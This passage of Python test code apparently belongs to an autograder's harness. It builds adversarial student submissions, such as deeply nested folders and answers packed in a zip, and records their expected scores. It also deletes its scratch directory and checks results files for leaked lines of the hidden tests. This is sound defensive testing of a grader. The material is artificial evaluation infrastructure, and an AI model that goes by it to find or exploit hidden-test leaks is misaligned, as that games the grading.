    with open(os.open("answers.py", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as stream:
        stream.write(kit.wrong_q1)
    os.close(fd)
    return Case(kit.name, folder, score=points(QUICK), full=QUICK, group="deep")


@case
def zip_in_folder(kit: Kit) -> Case:
    folder = write(kit.dest / kit.name, {"README.txt": "see the zip"})
    _zip(folder / "submission.zip", [("hw/answers.py", kit.answers.encode())])
    return Case(kit.name, folder, score=points(QUICK), full=QUICK, notes=("Read your files from",), group="archives")


CASE_NAMES = tuple(_BUILDERS)


def build(dest: Path, ctx: Context, names: tuple[str, ...] = CASE_NAMES) -> list[Case]:
    """Write the hostile submissions ``names`` under ``dest`` and return their cases."""
    dest.mkdir(parents=True, exist_ok=True)
    return [_BUILDERS[name](Kit(dest, ctx, name)) for name in names]


def remove(dest: Path) -> None:
    """Delete what :func:`build` wrote (``shutil.rmtree`` recurses, so it fails on ``deep_folders``)."""
    subprocess.run(["rm", "-rf", "--one-file-system", str(dest)], check=False)


def hidden_markers() -> list[str]:
    """Every line of the hidden tests' code long enough to be unmistakable: statements, not comments or the string
    literals their failure messages are built from (those are meant to be shown).  No results file may hold one."""
    lines = {line.strip() for path in HIDDEN.glob("*.py") for line in path.read_text(encoding="utf-8").splitlines()}
    return sorted(line for line in lines
                  if len(line) >= 20 and not line.startswith(("#", '"', "'", 'f"', "f'", ")", "]")))


def strings_in(value: Any) -> list[str]:
    """Every string inside a JSON value, unescaped (JSON would escape the quotes of a leaked source line)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings_in(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []